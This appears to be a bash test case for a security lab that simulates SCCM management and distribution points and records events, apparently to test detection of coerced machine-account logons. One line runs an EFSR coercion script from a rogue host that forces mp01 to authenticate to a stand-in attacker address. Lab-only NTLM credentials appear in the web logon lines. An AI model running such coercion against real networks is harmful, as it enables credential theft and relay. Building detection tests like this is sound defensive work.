#!/bin/bash
# The same call, and nothing follows; a logon of mp01 at another site system; and a logon elsewhere without a call.
. "$(dirname "$0")/../../tests/lab/case.sh"
. "$TOP/tests/lab/samba.sh"
serve mp01 --roles mp
serve dp01 --roles dp --dp-auth ntlm
serve rogue01 --roles dp --dp-auth ntlm
background "$WORK/efsr.log" mp01 /usr/bin/python3 "$LAB/efsr_server.py" 49200 -- true
wait_port mp01 49200
record
client client01 aut=MPLIST
client client02 aut=MPLIST
web client02 --ntlm -u "CORP\\svc_naa:$PASSWORD" 'http://dp01.corp.example/SMS_DP_SMSPKG$/PS100012/sccm?/readme.html'
python rogue01 "$LAB/coerce.py" 'ncacn_ip_tcp:192.0.2.20[49200]' efsr '\\192.0.2.66@80\share\file'
web mp01 --ntlm -u 'CORP\mp01$:Lab-Only-Mp01!' 'http://dp01.corp.example/SMS_DP_SMSPKG$/PS100012/sccm?/readme.html'
sleep 31
web mp01 --ntlm -u 'CORP\mp01$:Lab-Only-Mp01!' 'http://192.0.2.66/SMS_DP_SMSPKG$/PS100012/sccm?/readme.html'
finish
